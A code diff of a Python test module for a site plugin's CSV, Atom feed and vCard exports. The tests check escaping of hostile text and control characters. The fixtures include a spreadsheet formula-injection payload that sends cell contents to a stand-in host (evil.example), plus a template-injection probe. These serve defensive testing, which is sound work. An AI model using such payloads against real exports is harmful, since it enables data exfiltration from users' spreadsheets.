@@ -4,6 +4,7 @@ matches the data one to one, text is the data's own (never HTML-escaped)."""
 from __future__ import annotations
 
 import csv
+import dataclasses
 import datetime as dt
 import io
 import json
@@ -30,6 +31,7 @@ from plugins.essen.exports import (
     vcard,
     vcard_fold,
     vcard_kind,
+    vcard_text,
 )
 from plugins.essen.loading import load_site
 from plugins.essen.model import Contact, Initiative, Partner, Site
@@ -53,7 +55,7 @@ FORMULA_SUMMARY = '=HYPERLINK("https://evil.example/?q="&A1;"Klick")'
 HOSTILE_DESCRIPTION = (
     'Erste Zeile; mit Semikolon, Komma und "Anführung".\n\n'
     "- Liste mit <b>fett</b> und {{ 7*7 }}\n"
-    "- Grüße aus Überruhr\r\nnoch eine Zeile"
+    "- Grüße aus Überruhr\nnoch eine Zeile"
 )
 NASTY_CONTACT_NAME = 'Müller, Hans; "Dr." \\ Team'
 LONG_PARTNER_NAME = (
@@ -65,8 +67,8 @@ LONG_PARTNER_NAME = (
 def nasty_data() -> dict:
     """The conftest's small data set plus initiatives and contacts with hostile text."""
     data = small_data()
-    # A field name with a control character ends up in the feed's attributes.
-    data["fields"][2]["name"] = "Smart\x0bEnergy, Wärme & <Strom>"
+    # A field name with markup and an ampersand ends up in the feed's attributes.
+    data["fields"][2]["name"] = "Smart Energy, Wärme & <Strom>"
     data["partners"]["gemeinnuetzig"] = {
         "name": LONG_PARTNER_NAME,
         "type": "civil-society",
@@ -76,6 +78,7 @@ def nasty_data() -> dict:
         {
             "id": "mueller",
             "name": NASTY_CONTACT_NAME,
+            # A line break in a one-line text arrives as a space (the loader's rule).
             "role": "Leitung\nSmart City, Bereich \\Süd\\",
             "organization": "gemeinnuetzig",
             "phone": "+49 (0)201 123-45",
@@ -131,10 +134,10 @@ def nasty_data() -> dict:
         "start": "2030-01",
     }
     data["initiatives"]["steuerzeichen"] = {
-        "title": "Steuer\x0bzeichen",
+        "title": "Steuerzeichen",
         "fields": ["smart-living"],
         "status": "idea",
-        "summary": "Ein Zeichen, das XML nicht kennt: \x01.",
+        "summary": "Zeichen, die XML nicht kennt, lässt schon das Laden nicht durch.",
     }
     return data
 
@@ -593,8 +596,16 @@ def test_feed_order_and_dates(nasty_site: Site, nasty_files: dict[str, bytes]) -
         assert atom_day(entry.find(f"{ATOM}updated")) == oldest
 
 
-def test_feed_is_well_formed_with_control_characters(nasty_files: dict[str, bytes]) -> None:
-    root, entries = feed_entries(nasty_files)
+def test_feed_is_well_formed_with_control_characters(nasty_site: Site) -> None:
+    # The loader refuses control characters (tests/test_rules.py); the feed stays well-formed
+    # even for a model that carries them, as a second line of defence.
+    initiatives = tuple(
+        dataclasses.replace(i, title="Steuer\x0bzeichen", summary="Zeichen: \x01.")
+        if i.id == "steuerzeichen"
+        else i
+        for i in nasty_site.initiatives
+    )
+    root, entries = feed_entries(export(dataclasses.replace(nasty_site, initiatives=initiatives)))
     titles = [e.findtext(f"{ATOM}title") for e in entries]
     assert "Steuer\ufffdzeichen" in titles
     assert HOSTILE_TITLE in titles
@@ -650,7 +661,9 @@ def test_vcard_escaping_and_folding(nasty_files: dict[str, bytes]) -> None:
     card = parse_vcard(raw)
     assert card["FN"] == [NASTY_CONTACT_NAME]
     assert card["ORG"] == [LONG_PARTNER_NAME]
-    assert card["TITLE"] == ["Leitung\nSmart City, Bereich \\Süd\\"]
+    assert card["TITLE"] == ["Leitung Smart City, Bereich \\Süd\\"]
+    # Line breaks cannot come from one-line data any more; the escaping still handles them.
+    assert vcard_text("Zeile\nzwei; drei, \\") == "Zeile\\nzwei\\; drei\\, \\\\"
     assert card["EMAIL;TYPE=work"] == ["team,sued@example.org"]
     assert card["TEL;VALUE=uri;TYPE=work,voice"] == ["tel:+4920112345"]
     text = raw.decode("utf-8")
